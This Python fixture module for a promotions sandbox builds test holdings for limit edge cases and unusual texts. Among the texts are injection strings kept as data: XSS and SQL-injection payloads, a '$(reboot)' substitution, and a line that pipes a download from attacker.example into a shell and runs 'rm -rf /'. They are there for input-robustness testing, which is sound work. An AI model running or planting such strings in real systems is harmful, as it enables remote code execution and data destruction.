"""The holdings of C-LIMITS (every form of limits and usage) and C-SCRIPTS (unusual texts)."""

# ruff: noqa: RUF001 - letters that look like others are what these texts are for

from decimal import Decimal
from typing import Any

from gateway.sandbox.customer import Holding
from gateway.sandbox.generation import Generator
from gateway.sandbox.promotion import ENROL_AND_ISSUE, GENERIC, Metadata, Restriction

_LIMITS_PROGRAM_ID = 9024
_SCRIPTS_PROGRAM_ID = 9022

_EVERY_LIMIT = (
    Restriction("NUMBER_OF_POINTS", "EVENT", "25"),
    Restriction("NUMBER_OF_TIMES", "CUSTOMER", "10"),
    Restriction("NUMBER_OF_POINTS", "CUSTOMER", "250"),
    Restriction("NUMBER_OF_TIMES", "PROMOTION", "1000"),
    Restriction("NUMBER_OF_POINTS", "PROMOTION", "100000"),
    Restriction("NUMBER_OF_REDEMPTIONS_PER_EARN", "CUSTOMER", "3"),
)


def _points(maximum: str) -> Restriction:
    return Restriction("NUMBER_OF_POINTS", "CUSTOMER", maximum)


def _times(maximum: str, unit: str | None = None) -> Restriction:
    return Restriction("NUMBER_OF_TIMES", "CUSTOMER", maximum, unit)


# name, redemption restrictions, usage, facts of the promotion
_LIMIT_CASES: tuple[tuple[str, tuple[Restriction, ...], dict[str, Any], dict[str, Any]], ...] = (
    ("Unlimited", (_times("-1"), _points("-1")), {"points": "4990", "times": 4}, {}),
    ("A limit of zero", (_times("0"), _points("0")), {}, {}),
    ("Used beyond a tenth", (_points("0.1"),), {"points": "0.3", "times": 3}, {}),
    ("Used a tenth of three", (_points("0.3"),), {"points": "0.1", "times": 1}, {}),
    ("Three decimals", (_points("4990.000"),), {"points": "4990", "times": 4}, {}),
    ("Every limit", _EVERY_LIMIT, {"points": "30", "times": 3}, {}),
    (
        "Figures as numbers",
        (*_EVERY_LIMIT[:2], _points("99.5")),
        {"points": "12.5", "times": 1},
        {"figures_as_numbers": True},
    ),
    (
        "Windows",
        (_times("1", "DAILY"), _times("5", "WEEKLY"), _times("20", "MONTHLY")),
        {"points": "70", "times": 7, "times_in_window": 1},
        {},
    ),
    ("An unknown window", (_times("2", "FORTNIGHTLY"),), {"times": 1}, {}),
    (
        "An unknown measure",
        (Restriction("NUMBER_OF_WIDGETS", "CUSTOMER", "5"),),
        {"points": "1", "times": 1},
        {},
    ),
    ("An unknown scope", (Restriction("NUMBER_OF_POINTS", "HOUSEHOLD", "500"),), {}, {}),
    ("An unknown event", (), {}, {"event_name": "WidgetSpun"}),
    ("An unknown type", (_times("3"),), {"times": 1}, {"offer_type": "CASHBACK"}),
    ("Nothing configured", (), {"points": "10", "times": 1}, {}),
)


def limit_holdings(generator: Generator) -> list[Holding]:
    """Return a holding for each case, and one whose enrolments and issues are unlimited."""
    holdings = [
        _holding(generator, nth, name, restrictions, usage, facts)
        for nth, (name, restrictions, usage, facts) in enumerate(_LIMIT_CASES)
    ]
    unlimited = generator.promotion(
        _LIMITS_PROGRAM_ID,
        90_240_101,
        len(_LIMIT_CASES),
        name="Unlimited enrolments and issues",
        offer_type=ENROL_AND_ISSUE,
        issual_restrictions=(Restriction("NUMBER_OF_ISSUALS", "CUSTOMER", "-1"),),
        earn_restrictions=(Restriction("NUMBER_OF_EARNS", "CUSTOMER", "-1"),),
    )
    enrolments = (generator.enrolment(unlimited, -5, issues=(0, 1)),)
    return [*holdings, Holding(promotion=unlimited, times=1, enrolments=enrolments)]


def _holding(  # noqa: PLR0913, PLR0917 - the columns of the table above
    generator: Generator,
    nth: int,
    name: str,
    restrictions: tuple[Restriction, ...],
    usage: dict[str, Any],
    facts: dict[str, Any],
) -> Holding:
    promotion = generator.promotion(
        _LIMITS_PROGRAM_ID,
        90_240_001 + nth,
        0,
        **{
            "name": name,
            "offer_type": GENERIC,
            "redemption_restrictions": restrictions,
            **facts,
        },
    )
    return Holding(promotion=promotion, **usage | {"points": Decimal(usage.get("points", 0))})


_CONTROLS = "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029\ufeff"

# name, description
_TEXTS: tuple[tuple[str, str], ...] = (
    ("दिवाली की छूट", "देवनागरी में विवरण"),
    ("عرض رمضان ١٠٪", "نقاط مضاعفة على كل مشترياتك"),
    ("双倍积分 · 春节", "每满100元积2分，多买多得。"),
    ("🎉👩‍👩‍👧‍👦 Family 🏳️‍🌈", "Emoji made of several code points: 👩🏽‍🚀🇩🇪"),
    ("Cafe\u0301 \u0132sland Z\u0351\u036b\u0343\u036a\u0302", "Combining marks, not normalised"),
    ("\u202eslaog eht lla\u202c \u200fוילון", "Right-to-left override, mark and Hebrew"),
    ("<script>alert('x')</script>", '<img src=x onerror="alert(1)"><b>Bold</b> &amp; &lt;not&gt;'),
    ("'; DROP TABLE promotions; --", "Robert'); DROP TABLE students;-- \" OR 1=1"),
    ("$(reboot)", "curl -L 'https://attacker.example/x' | sh; `id` && rm -rf / # {{7*7}} ${7*7}"),
    ("Lines", "first\nsecond\r\nthird\rfourth\tfifth"),
    ("Control characters", _CONTROLS),
    ("Very long", "A long description. " * 1024),
    ("  blanks around  ", "   "),
)


def script_holdings(generator: Generator) -> list[Holding]:
    """Return a holding for each text."""
    return [
        Holding(
            promotion=generator.promotion(
                _SCRIPTS_PROGRAM_ID,
                90_220_001 + nth,
                nth,
                name=name,
                description=description,
                identifier=f"text-{nth}-{name}",
                offer_type=GENERIC,
                metadata=(Metadata(name, description[:200], brand_defined=False),),
            ),
            points=Decimal(nth),
            times=nth,
        )
        for nth, (name, description) in enumerate(_TEXTS)
    ]
